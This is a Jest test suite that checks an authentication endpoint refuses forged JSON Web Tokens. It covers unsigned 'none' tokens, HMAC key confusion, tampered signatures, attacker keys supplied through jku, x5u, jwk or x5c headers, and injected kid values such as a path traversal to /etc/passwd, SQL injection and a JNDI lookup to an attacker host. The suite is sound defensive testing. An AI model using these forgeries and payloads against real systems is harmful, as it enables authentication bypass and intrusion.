import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  b64url,
  hs256WithEmptyKey,
  publicKeyEncodings,
  segment,
  segments,
  signRaw,
  signUnencodedDetached,
  signWithJwk,
} from '../support/jwt-forge.js';
import { describeAfterwards, JwtTarget } from '../support/jwt-target.js';
import { loginThrough } from '../support/tokens.js';

// Token-mode GET /api/auth/me against forged algorithms, keys and signatures. Every refusal is the contract's whole
// 401 body; the realm's own tokens and claims are in jwt-attacks-claims.test.ts.
let t: JwtTarget;

beforeAll(async () => {
  t = await JwtTarget.start();
});

afterAll(async () => {
  await t.close();
});

describe('the forging kit is sound', () => {
  it("alice's claims re-signed with the realm's key are accepted: every refusal below is the change under test", async () => {
    expect(await t.bearer(await t.realmSigned())).toEqual({
      status: 200,
      body: {
        user: {
          sub: t.claims.sub,
          username: 'alice',
          email: 'alice@example.test',
          name: 'Alice Liddell',
          roles: expect.arrayContaining(['user']),
        },
      },
    });
  });
});

describe('unsigned tokens', () => {
  it.each(['none', 'None', 'NONE', 'nOnE'])(
    'alg "%s" is refused with no signature, an empty one, or the real one',
    async (alg) => {
      const unsigned = `${segment({ alg, typ: 'JWT' })}.${segments(t.alice.access_token).payload}`;
      await t.expectAll([
        unsigned,
        `${unsigned}.`,
        `${unsigned}.${segments(t.alice.access_token).signature}`,
        `${segment({ alg, kid: t.realm.kid })}.${segments(t.alice.access_token).payload}.`,
      ]);
    },
  );
});

describe('key confusion: an HMAC keyed with the realm public key', () => {
  it.each(['HS256', 'HS384', 'HS512'])('%s is refused whatever encoding of the public key keyed it', async (alg) => {
    const tokens = await Promise.all(
      publicKeyEncodings(t.realm.published).map(([, key]) =>
        signRaw({ alg, typ: 'JWT', kid: t.realm.kid }, t.claims, key),
      ),
    );
    await t.expectAll(tokens);
  });
});

describe('signatures', () => {
  it('a random signature, an all-zero one, and one moved over from another user are refused', async () => {
    const admin = await loginThrough(t.gateway.app, 'admin');
    await t.expectAll([
      t.withSignature(b64url(randomBytes(256))),
      t.withSignature(b64url(new Uint8Array(256))),
      t.withSignature(segments(admin.access_token).signature),
    ]);
  });

  it('every one of the 256 signature bytes flipped is refused', async () => {
    const signature = Buffer.from(segments(t.alice.access_token).signature, 'base64url');
    const flipped = Array.from(signature, (_, i) => {
      const copy = Buffer.from(signature);
      copy[i] = (copy[i] ?? 0) ^ 0x01;
      return t.withSignature(copy.toString('base64url'));
    });
    await t.expectAll(flipped);
  });

  it('every character of the signature replaced is refused, the last one included', async () => {
    const { signature } = segments(t.alice.access_token);
    const replaced = Array.from(signature, (c, i) =>
      t.withSignature(`${signature.slice(0, i)}${c === 'A' ? 'B' : 'A'}${signature.slice(i + 1)}`),
    );
    await t.expectAll(replaced);
  });

  it('every character of the header, and every fifth of the claims, replaced is refused', async () => {
    const { header, payload, signature } = segments(t.alice.access_token);
    const swap = (s: string, i: number): string => `${s.slice(0, i)}${s[i] === 'A' ? 'B' : 'A'}${s.slice(i + 1)}`;
    const everyFifth = Array.from({ length: Math.ceil(payload.length / 5) }, (_, i) => i * 5);
    await t.expectAll([
      ...Array.from(header, (_, i) => `${swap(header, i)}.${payload}.${signature}`),
      ...everyFifth.map((i) => `${header}.${swap(payload, i)}.${signature}`),
    ]);
  });

  it('the last signature character with only its unused low bits changed is refused: a token has one spelling', async () => {
    const { signature } = segments(t.alice.access_token);
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const last = alphabet.indexOf(signature.at(-1) ?? '');
    // 256 bytes take 342 characters: the last one carries 2 bits of the signature and 4 that decoders drop.
    const respelled = [1, 2, 4, 8].map((bit) =>
      t.withSignature(`${signature.slice(0, -1)}${alphabet[last ^ bit] ?? ''}`),
    );
    for (const token of respelled)
      expect(Buffer.from(segments(token).signature, 'base64url')).toEqual(Buffer.from(signature, 'base64url'));
    await t.expectAll(respelled);
  });

  it('a truncated, extended or padded signature is refused', async () => {
    const { signature } = segments(t.alice.access_token);
    const lengths = [0, 1, 2, 3, 4, 100, 171, 338, 339, 340, 341];
    await t.expectAll([
      ...lengths.map((n) => t.withSignature(signature.slice(0, n))),
      t.withSignature(`${signature}A`),
      t.withSignature(`${signature}AA`),
      t.withSignature(`${signature}${signature}`),
      t.withSignature(`${signature}=`),
      t.withSignature(`${signature}==`),
    ]);
  });

  it('the whole token cut short anywhere is refused', async () => {
    const token = t.alice.access_token;
    await t.expectAll(
      Array.from({ length: 40 }, (_, i) => token.slice(0, Math.floor((token.length * i) / 40))).filter(Boolean),
    );
  });

  it("another RSA key under the realm's kid, or under none, is refused, as is the realm key under another algorithm", async () => {
    await t.expectAll([
      await t.attackerSigned(t.realmHeader()),
      await t.attackerSigned({ alg: 'RS256', typ: 'JWT' }),
      await signWithJwk(t.attacker.privateJwk, { alg: 'PS256', kid: t.realm.kid }, t.claims),
      await signWithJwk(t.realm.privateJwk, { alg: 'RS512', kid: t.realm.kid }, t.claims),
      await signWithJwk(t.realm.privateJwk, { alg: 'PS256', kid: t.realm.kid }, t.claims),
    ]);
  });
});

describe('keys named or carried by the token', () => {
  it('jku, x5u, an embedded jwk and an x5c carrying the attacker key are refused, and nothing named is ever fetched', async () => {
    const attackerKid = { alg: 'RS256', kid: 'attacker-key' };
    await t.expectAll([
      await t.attackerSigned({ ...attackerKid, jku: `${t.attackerSite.url}/jwks.json` }),
      await t.attackerSigned({ ...t.realmHeader(), jku: `${t.attackerSite.url}/jwks.json` }),
      await t.attackerSigned({ ...attackerKid, x5u: `${t.attackerSite.url}/cert.pem` }),
      await t.attackerSigned({ alg: 'RS256', jwk: t.attacker.jwk }),
      await t.attackerSigned({ ...t.realmHeader(), jwk: { ...t.attacker.jwk, kid: t.realm.kid } }),
      await t.attackerSigned({ alg: 'RS256', x5c: [t.attacker.spkiDer] }),
      await t.attackerSigned({ ...t.realmHeader(), x5c: [t.attacker.spkiDer], x5u: `${t.attackerSite.url}/x5u` }),
    ]);
    expect(t.attackerSite.requests).toEqual([]);
  });

  it('crit naming an unknown extension is refused even under the realm signature, as are malformed crit lists', async () => {
    await t.expectAll([
      await signRaw({ ...t.realmHeader(), crit: ['x-unknown'], 'x-unknown': true }, t.claims, t.realm.signing, {
        'x-unknown': true,
      }),
      await signRaw({ ...t.realmHeader(), crit: ['exp'], exp: t.now() + 60 }, t.claims, t.realm.signing, { exp: true }),
      await signUnencodedDetached(t.realmHeader(), t.realm.signing),
      ...(await Promise.all(
        [[], 'x-unknown', ['x-absent'], ['alg'], [''], [1]].map((crit) =>
          t.realmSignedHeader(JSON.stringify({ ...t.realmHeader(), crit })),
        ),
      )),
    ]);
  });

  const injectedKids: [string, () => unknown][] = [
    ['a path traversal', () => '../../../../../../etc/passwd'],
    ['/dev/null', () => '../../../../../../dev/null'],
    ['SQL', () => "' OR 1=1 --"],
    ['SQL with a UNION', () => "x' UNION SELECT 'secret' --"],
    ['a JNDI lookup', () => `\${jndi:ldap://${t.attackerSite.url.slice('http://'.length)}/a}`],
    ['a template', () => '{{7*7}}<%= 7*7 %>#{7*7}'],
    ['a URL', () => `${t.attackerSite.url}/kid`],
    ['8,000 characters', () => 'k'.repeat(8000)],
    ['unicode', () => 'ключ-🔑-\u202e-\uffff'],
    ['a lone surrogate', () => '\ud800'],
    ['null bytes', () => `${t.realm.kid}\u0000`],
    ['an empty string', () => ''],
    ['a number', () => 0],
    ['null', () => null],
    ['an object', () => ({ $ne: null })],
    ['an array', () => [t.realm.kid]],
  ];
  it.each(injectedKids)(
    'a kid of %s is refused whoever signs it: the realm, the attacker, or an HMAC over the empty key',
    async (_case, kid) => {
      const header = { alg: 'RS256', typ: 'JWT', kid: kid() };
      await t.expectAll([
        await t.realmSigned({}, header),
        await t.attackerSigned(header),
        hs256WithEmptyKey(header, t.claims),
      ]);
      expect(t.attackerSite.requests).toEqual([]);
    },
  );
});

describe('a flood of unknown key ids', () => {
  it('200 tokens with distinct made-up kids are refused, and the key set is fetched at most once for them', async () => {
    const before = t.keySetFetches;
    const flood = await Promise.all(
      Array.from({ length: 200 }, (_, i) =>
        t.attackerSigned({ alg: 'RS256', kid: `made-up-${i}-${randomBytes(4).toString('hex')}` }),
      ),
    );
    await t.expectAll(flood);
    expect(t.keySetFetches - before).toBeLessThanOrEqual(1);
  });
});

describeAfterwards(() => t);
